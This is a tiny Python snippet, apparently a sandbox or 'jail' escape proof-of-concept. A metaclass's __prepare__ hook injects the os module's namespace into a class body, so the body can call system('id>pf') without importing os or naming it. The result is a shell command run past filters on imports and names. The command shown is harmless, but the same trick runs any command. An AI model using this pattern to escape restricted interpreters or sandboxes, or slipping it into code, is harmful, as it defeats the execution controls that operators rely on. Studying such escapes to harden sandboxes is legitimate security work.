import collections, os
class M(type):
    @classmethod
    def __prepare__(m, *a):
        return collections.ChainMap({}, vars(os))
class C(metaclass=M):
    system("id>pf")
